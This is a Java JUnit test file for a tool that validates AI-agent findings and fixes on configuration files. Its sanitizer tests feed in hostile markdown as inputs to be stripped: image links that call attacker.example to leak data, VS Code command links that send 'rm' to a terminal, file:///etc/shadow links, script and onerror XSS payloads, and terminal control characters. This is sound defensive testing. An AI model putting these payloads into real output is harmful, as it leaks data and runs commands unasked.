package io.archlens.agent.validate;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.archlens.agent.provider.Failure;
import io.archlens.agent.provider.JsonText;
import io.archlens.agent.provider.ProviderException;
import io.archlens.agent.redact.Redacted;
import io.archlens.agent.redact.Redactor;
import io.archlens.analysis.Category;
import io.archlens.analysis.Finding;
import io.archlens.analysis.Fixes;
import io.archlens.analysis.Severity;
import io.archlens.analysis.SourceFile;
import io.archlens.core.TextRange;
import io.archlens.filekind.FileKind;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class ValidationTest {
    static RawFinding.RawFix fix(String... sr) {
        List<RawFinding.RawEdit> edits = new java.util.ArrayList<>();
        for (int i = 0; i < sr.length; i += 2) {
            edits.add(new RawFinding.RawEdit(sr[i], sr[i + 1]));
        }
        return new RawFinding.RawFix("Fix it", edits);
    }

    static SourceFile file(String path, String text, FileKind kind) {
        return new SourceFile("file:///w/" + path, path, text, kind, 1);
    }

    @Test
    void anchorExactThenWhitespaceTolerantThenNearestToHint() {
        String text = "a:\n  timeout: 0\nb:\n  timeout: 0\nc:\n  timeout:   0\n";
        assertEquals(text.indexOf("timeout: 0"), Anchorer.anchor(text, "timeout: 0", 2).orElseThrow().start());
        assertEquals(text.lastIndexOf("  timeout: 0") + 2, Anchorer.anchor(text, "timeout: 0", 4).orElseThrow().start());
        TextRange ws = Anchorer.anchor(text, "timeout:  0", 6).orElseThrow();
        assertEquals("timeout:   0", text.substring(ws.start(), ws.end()));
        TextRange multi = Anchorer.anchor(text, "b:\n    timeout: 0", 3).orElseThrow();
        assertEquals(text.indexOf("b:"), multi.start());
        assertTrue(Anchorer.anchor(text, "retries: 3", 1).isEmpty());
        assertTrue(Anchorer.anchor(text, "a", 1).isEmpty(), "too short to anchor anything");
        assertTrue(Anchorer.anchor(text, null, 1).isEmpty());
    }

    @Test
    void fixKeptOnlyWhenEverySearchIsUniqueAndEditsDoNotOverlap() {
        String text = "spring.datasource.hikari.maximum-pool-size=200\nserver.port=8080\nlogging.level.root=DEBUG\n";
        SourceFile f = file("application.properties", text, FileKind.SPRING_PROPERTIES);
        Redacted red = Redacted.none(text);
        var ok = FixValidator.validate(f, red, fix("maximum-pool-size=200", "maximum-pool-size=20",
                "logging.level.root=DEBUG", "logging.level.root=INFO"));
        assertNotNull(ok.fix(), ok.rejected());
        assertEquals("spring.datasource.hikari.maximum-pool-size=20\nserver.port=8080\nlogging.level.root=INFO\n",
                Fixes.apply(text, ok.fix().edits()));
        assertFalse(ok.fix().safe());
        assertEquals("search text not found", FixValidator.validate(f, red, fix("pool-size=100", "x")).rejected());
        assertEquals("search text occurs more than once", FixValidator.validate(f, red, fix("=", ":")).rejected());
        assertEquals("edits overlap", FixValidator.validate(f, red,
                fix("maximum-pool-size=200", "a", "pool-size=200\nserver", "b")).rejected());
        assertEquals("the edits change nothing", FixValidator.validate(f, red, fix("server.port=8080", "server.port=8080")).rejected());
        assertEquals("an edit has no search text", FixValidator.validate(f, red, fix("", "x")).rejected());
    }

    @Test
    void fixesMustKeepJsonAndPropertiesParseable() {
        String json = "{\n  \"openapi\": \"3.0.3\",\n  \"info\": {\"title\": \"shop\"}\n}\n";
        SourceFile f = file("openapi.json", json, FileKind.OPENAPI);
        assertEquals("the result no longer parses",
                FixValidator.validate(f, Redacted.none(json), fix("\"3.0.3\",", "\"3.1.0\"")).rejected());
        assertNotNull(FixValidator.validate(f, Redacted.none(json), fix("\"3.0.3\"", "\"3.1.0\"")).fix());

        String props = "a=1\n";
        SourceFile p = file("application.properties", props, FileKind.SPRING_PROPERTIES);
        assertEquals("the result no longer parses",
                FixValidator.validate(p, Redacted.none(props), fix("a=1", "a=\\uZZZZ")).rejected());
    }

    @Test
    void fixesInCrlfFilesKeepCrlf() {
        String text = "services:\r\n  db:\r\n    image: postgres:16\r\n";
        SourceFile f = file("compose.yml", text, FileKind.COMPOSE);
        var r = FixValidator.validate(f, Redacted.none(text),
                fix("    image: postgres:16\n", "    image: postgres:16\n    restart: unless-stopped\n"));
        assertNotNull(r.fix(), r.rejected());
        assertEquals("services:\r\n  db:\r\n    image: postgres:16\r\n    restart: unless-stopped\r\n",
                Fixes.apply(text, r.fix().edits()));
    }

    @Test
    void fixesNeverTouchOrWriteRedactedText() {
        String text = "services:\n  db:\n    environment:\n      POSTGRES_PASSWORD: hunter2hunter2\n";
        SourceFile f = file("compose.yml", text, FileKind.COMPOSE);
        Redacted red = Redactor.redact(f);
        assertEquals("an edit touches redacted text", FixValidator.validate(f, red,
                fix("POSTGRES_PASSWORD: <REDACTED-1>", "POSTGRES_PASSWORD: ${POSTGRES_PASSWORD}")).rejected());
        assertEquals("an edit touches redacted text", FixValidator.validate(f, red,
                fix("  db:\n", "  db:\n    x: <REDACTED-1>\n")).rejected());
        var ok = FixValidator.validate(f, red, fix("  db:\n", "  db:\n    restart: always\n"));
        assertNotNull(ok.fix(), ok.rejected());
        assertTrue(Fixes.apply(text, ok.fix().edits()).contains("hunter2hunter2"), "the real secret stays in the file");
    }

    @Test
    void validatorMapsFieldsAndDropsWhatItCannotTrust() {
        String text = "services:\n  api:\n    image: shop/api:latest\n";
        SourceFile f = file("compose.yml", text, FileKind.COMPOSE);
        List<RawFinding> raw = List.of(
                new RawFinding("Docker/Pin Image Tag!!", "Reliability", "critical", "Pin the image\nto a version",
                        "x", 0.8, "shop/api:latest", 3, null),
                new RawFinding("low", "security", "warning", "maybe", "", 0.2, "shop/api:latest", 3, null),
                new RawFinding("nomessage", "security", "warning", "  ", "", 0.9, "shop/api:latest", 3, null),
                new RawFinding(null, "bogus", null, "no rule", null, null, "image:", 3, null));
        FindingValidator.Validated v = FindingValidator.validate(raw, f, Redacted.none(text), "my-agent", 0.5);
        assertEquals(2, v.findings().size());
        Finding a = v.findings().get(0);
        assertEquals("agent/pin-image-tag", a.ruleId());
        assertEquals(Severity.ERROR, a.severity());
        assertEquals(Category.RELIABILITY, a.category());
        assertEquals("Pin the image to a version", a.message());
        assertEquals("archlens/my-agent", a.source());
        Finding b = v.findings().get(1);
        assertEquals("agent/finding", b.ruleId());
        assertEquals(Severity.WARNING, b.severity());
        assertEquals(Category.MAINTAINABILITY, b.category());
        assertEquals(2, v.dropped().size(), v.dropped().toString());
    }

    @Test
    void ruleIdsAreSanitized() {
        assertEquals("agent/missing-timeout", RuleIds.sanitize("k8s/missing_timeout"));
        assertEquals("agent/no-connection-timeout", RuleIds.sanitize("NoConnectionTimeout"));
        assertEquals("agent/finding", RuleIds.sanitize("../../!!"));
        assertTrue(RuleIds.sanitize("x".repeat(500)).length() <= 66);
        assertTrue(RuleIds.sanitize("Ünïcode rule").matches("[a-z0-9-]+/[a-z0-9-]+"));
    }

    @Test
    void outputParserIsStrictAboutTheShapeButLenientPerItem() throws Exception {
        assertEquals(Failure.MALFORMED_OUTPUT, assertThrows(ProviderException.class,
                () -> AgentOutputParser.parse("{\"findings\": [ {\"rule\": ")).failure());
        assertEquals(Failure.MALFORMED_OUTPUT, assertThrows(ProviderException.class,
                () -> AgentOutputParser.parse("[]")).failure());
        List<RawFinding> r = AgentOutputParser.parse("{\"findings\": [1, \"x\", {\"rule\": \"a\", \"confidence\": \"high\","
                + " \"anchor\": {\"quote\": \"q\", \"line_hint\": 3}, \"fix\": {\"title\": \"t\", \"edits\": [{\"search\": \"s\"}]}}]}");
        assertEquals(1, r.size());
        assertNull(r.get(0).confidence());
        assertEquals(3, r.get(0).lineHint());
        assertEquals("s", r.get(0).fix().edits().get(0).search());
        assertNull(r.get(0).fix().edits().get(0).replace());
    }

    @Test
    void markdownSanitizer() {
        String out = MarkdownSanitizer.sanitize("""
                # Why
                ![pixel](https://tracker.example/p.gif) Use **pgbouncer**.
                <img src="https://tracker.example/q.gif">
                [open terminal](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)
                [etc](file:///etc/shadow) [js](javascript:alert(1)) [rel](../secrets.txt)
                <https://www.postgresql.org/docs/> and [docs](https://www.postgresql.org/docs/16/runtime-config.html)

                ```yaml
                max_connections: 200
                ```
                """);
        assertFalse(out.contains("tracker.example"), out);
        assertFalse(out.contains("<img"), out);
        assertFalse(out.contains("command:"), out);
        assertFalse(out.contains("file:"), out);
        assertFalse(out.contains("javascript:"), out);
        assertFalse(out.contains("../secrets.txt"), out);
        assertTrue(out.contains("pixel") && out.contains("**pgbouncer**") && out.contains("open terminal"), out);
        assertTrue(out.contains("https://www.postgresql.org/docs/16/runtime-config.html"), out);
        assertTrue(out.contains("max_connections: 200"), out);
        assertEquals("", MarkdownSanitizer.sanitize(null));
        assertTrue(MarkdownSanitizer.sanitize("x ".repeat(20_000)).length() < 7000);
    }

    @Test
    void modelTextIsOneInertLine() {
        org.commonmark.parser.Parser md = org.commonmark.parser.Parser.builder().build();
        List<String> hostile = List.of(
                "![x](https://attacker.example/leak?q=1)",
                "[a](command:workbench.action.terminal.new) and <command:rm> and <https://ok.example/>",
                "[![img](https://attacker.example/i.png)](https://attacker.example/l)",
                "!<b></b>[x](https://attacker.example/b)",
                "![y][r]\n\n[r]: https://attacker.example/r",
                "<img src=x onerror=alert(1)> <script>alert(1)</script> <!-- c --> <?php ?>",
                "\\<img src=https://attacker.example/e.png>",
                "[x]\n(https://attacker.example/split)",
                "a\u001B[31mb\u001B[0mc\u009B2Jd\u0000e\u0007f\u202Eg\u200Bh");
        for (String h : hostile) {
            String out = ModelText.line(h, 300);
            assertFalse(out.contains("\n") || out.contains("\u001B") || out.contains("\u202E") || out.contains("\u200B")
                    || out.chars().anyMatch(Character::isISOControl), out);
            org.commonmark.node.Node doc = md.parse(out);
            List<String> found = new java.util.ArrayList<>();
            doc.accept(new org.commonmark.node.AbstractVisitor() {
                @Override
                public void visit(org.commonmark.node.Image n) {
                    found.add("image");
                }

                @Override
                public void visit(org.commonmark.node.Link n) {
                    found.add("link " + n.getDestination());
                }

                @Override
                public void visit(org.commonmark.node.HtmlInline n) {
                    found.add("html " + n.getLiteral());
                }

                @Override
                public void visit(org.commonmark.node.HtmlBlock n) {
                    found.add("html block " + n.getLiteral());
                }
            });
            assertEquals(List.of(), found, h + " -> " + out);
            assertFalse(out.contains("attacker.example/leak") || out.contains("command:"), out);
        }
        assertEquals("abcd e fgh", ModelText.line(hostile.get(hostile.size() - 1), 300));
        assertEquals("a and and https://ok.example/", ModelText.line(hostile.get(1), 300));
        // code-like text reads as written: backslashes, asterisks, underscores stay
        assertEquals("location ~* \\.php$ sets *_TIMEOUT to `30s`", ModelText.line("location ~* \\.php$ sets *_TIMEOUT to `30s`", 300));
        String capped = ModelText.line("x".repeat(296) + "\uD83D\uDE00" + "y".repeat(10), 300);
        assertEquals(300, capped.length() + 1, capped);
        assertTrue(capped.endsWith("x..."), "a surrogate pair is never cut in half");
        assertEquals("", ModelText.line(null, 10));
    }

    @Test
    void syntaxCheckCoversEveryKindWithAParser() {
        record Case(String path, FileKind kind, String before, String broken, String fine) {
        }
        List<Case> cases = List.of(
                new Case("Dockerfile", FileKind.DOCKERFILE, "FROM a:1\nRUN x\n", "FROM a:1\nRUN <<EOF\nx\n", "FROM a:1\nRUN y\n"),
                new Case("app.properties", FileKind.SPRING_PROPERTIES, "a=1\n", "a=\\u12\n", "a=2\n"),
                new Case("default.conf", FileKind.NGINX, "events {}\n", "events {\n", "events { }\n"),
                new Case("s.sql", FileKind.SQL, "SELECT 'a';\n", "SELECT 'a;\n", "SELECT 'b';\n"),
                new Case("main.tf", FileKind.TERRAFORM, "a = 1\n", "a = \"1\n", "a = 2\n"),
                new Case(".env", FileKind.DOTENV, "A=1\n", "A=\"1\nB=2\n", "A=2\n"),
                new Case("c.yml", FileKind.COMPOSE, "a: 1\n", "a: [1\n", "a: 2\n"),
                new Case("api.json", FileKind.OPENAPI, "{\"a\": 1}", "{\"a\": 1", "{\"a\": 2}"));
        for (Case c : cases) {
            SourceFile f = file(c.path(), c.before(), c.kind());
            assertFalse(SyntaxCheck.stillValid(f, c.broken()), c.toString());
            assertTrue(SyntaxCheck.stillValid(f, c.fine()), c.toString());
        }
        // a file that was already broken may stay as broken, not get worse
        SourceFile broken = file("default.conf", "events {\n", FileKind.NGINX);
        assertTrue(SyntaxCheck.stillValid(broken, "events {\nworker_connections 10;\n"));
        assertFalse(SyntaxCheck.stillValid(broken, "events {\n;\n;\n"));
    }

    @Test
    void mergeDropsAnAgentFindingOnlyForTheSameIssueAtTheSamePlace() {
        String text = "services:\n  api:\n    image: shop/api:latest\n    privileged: true\n";
        int img = text.indexOf("shop/api:latest");
        Finding rule = new Finding("compose/no-latest-tag", Severity.WARNING, Category.RELIABILITY,
                new TextRange(img, img + 15), "shop/api uses the latest tag; pin a version", null, List.of(), List.of(),
                Set.of(), Finding.RULE_BOOK_SOURCE, null);
        Finding synonym = agent("agent/unpinned-image", Category.RELIABILITY, img + 9, img + 15);
        Finding sameRule = agent("agent/no-latest-tag", Category.MAINTAINABILITY, img - 7, img - 2);
        Finding otherIssueSameCategory = agent("agent/registry-provenance", Category.RELIABILITY, img, img + 15);
        Finding otherIssueOtherCategory = agent("agent/mutable-image", Category.SECURITY, img, img + 15);
        int priv = text.indexOf("privileged");
        Finding sameIssueElsewhere = agent("agent/latest-tag", Category.RELIABILITY, priv, priv + 16);
        List<Finding> merged = FindingMerger.merge(List.of(rule), List.of(synonym, sameRule, otherIssueSameCategory,
                otherIssueOtherCategory, sameIssueElsewhere), text);
        assertEquals(List.of("compose/no-latest-tag", "agent/registry-provenance", "agent/mutable-image", "agent/latest-tag"),
                merged.stream().map(Finding::ruleId).toList());
    }

    @Test
    void aDifferentIssueOnTheRuleBooksLineStaysAndTheSameIssueGoes() {
        // the issue's example: docker/root-user sits on the FROM line; the agent's provenance finding is another issue
        String text = "FROM registry.example/base/node:20\nCMD [\"node\", \"s.js\"]\n";
        Finding root = new Finding("docker/root-user", Severity.WARNING, Category.SECURITY, new TextRange(0, 4),
                "The final image runs as root: add a USER", null, List.of(), List.of(), Set.of(), Finding.RULE_BOOK_SOURCE, null);
        Finding provenance = new Finding("agent/base-image-provenance", Severity.WARNING, Category.SECURITY,
                new TextRange(5, 34), "The base image comes from an unverified registry", "x", List.of(), List.of(),
                Set.of(), "archlens/backend-architecture-expert", 0.9);
        Finding asRoot = new Finding("agent/container-runs-as-root", Severity.WARNING, Category.SECURITY,
                new TextRange(0, 34), "The process runs as root", "x", List.of(), List.of(), Set.of(),
                "archlens/backend-architecture-expert", 0.9);
        Finding vague = new Finding("agent/finding", Severity.WARNING, Category.SECURITY, new TextRange(0, 34),
                "No USER instruction: the container runs as root", "x", List.of(), List.of(), Set.of(),
                "archlens/backend-architecture-expert", 0.9);
        assertEquals(List.of("docker/root-user", "agent/base-image-provenance"),
                FindingMerger.merge(List.of(root), List.of(provenance, asRoot, vague), text).stream()
                        .map(Finding::ruleId).toList());
        assertEquals("The final image runs as root", io.archlens.analysis.RuleBook.loadDefault().rule("docker/root-user")
                .orElseThrow().title(), "the rule's title is part of what it describes");
    }

    @Test
    void sameIssueComparesTopicsNotWording() {
        assertTrue(SameIssue.same("missing-healthcheck", "", "compose/dependency-without-healthcheck",
                "Dependency without a healthcheck", ""));
        assertTrue(SameIssue.same("NoMemoryLimits", "", "compose/no-resource-limits", "Service has no memory or CPU limit", ""));
        assertTrue(SameIssue.same("hardcoded-password", "", "compose/literal-secret",
                "Secret written as a literal in environment", ""));
        assertFalse(SameIssue.same("db-single-replica", "", "compose/unpinned-image", "Image is not pinned to a version", ""));
        assertFalse(SameIssue.same("missing-healthcheck", "", "compose/no-resource-limits",
                "Service has no memory or CPU limit", ""));
        assertEquals(Set.of("pin"), SameIssue.words("unpinned images pinned latest tags"));
    }

    static Finding agent(String id, Category c, int s, int e) {
        return new Finding(id, Severity.WARNING, c, new TextRange(s, e), "m", "x", List.of(), List.of(), Set.of(),
                "archlens/backend-architecture-expert", 0.9);
    }

    @Test
    void jsonExtraction() {
        assertEquals("{\"findings\":[]}", JsonText.firstObject("Here you go: {\"findings\":[]} bye"));
        assertEquals("{\"a\":\"}{\"}", JsonText.firstObject("x {\"a\":\"}{\"} y"));
        assertEquals("{\"findings\":[]}", JsonText.firstObject("use {braces} then {\"findings\":[]}"));
        assertNull(JsonText.firstObject("{\"findings\": [ {\"rule\": \"cut"));
        assertNull(JsonText.firstObject("no json"));
    }

    @Test
    void findingsAreCarriedAcrossEditsOutsideTheirText() {
        String before = "a: 1\nb: 2\nc: 3\n";
        Finding onA = agent("agent/a", Category.RELIABILITY, 0, 4);
        Finding onB = agent("agent/b", Category.RELIABILITY, 5, 9);
        int c = before.indexOf("c: 3");
        Finding onC = new Finding("agent/c", Severity.INFO, Category.RELIABILITY, new TextRange(c, c + 4), "m", "x",
                List.of(new io.archlens.analysis.Fix("t", List.of(new io.archlens.analysis.Edit(new TextRange(c + 3, c + 4), "4")),
                        false)), List.of(), Set.of(), "archlens/x", 0.9);
        String after = "a: 1\nb: 22222\nc: 3\n";
        List<Finding> carried = FindingShifter.carry(List.of(onA, onB, onC), before, after);
        assertEquals(List.of("agent/a", "agent/c"), carried.stream().map(Finding::ruleId).toList());
        Finding movedC = carried.get(1);
        assertEquals("c: 3", after.substring(movedC.range().start(), movedC.range().end()));
        assertEquals("a: 1\nb: 22222\nc: 4\n", Fixes.apply(after, movedC.fixes().get(0).edits()));
        assertEquals(List.of(onA, onB, onC), FindingShifter.carry(List.of(onA, onB, onC), before, before));
    }
}
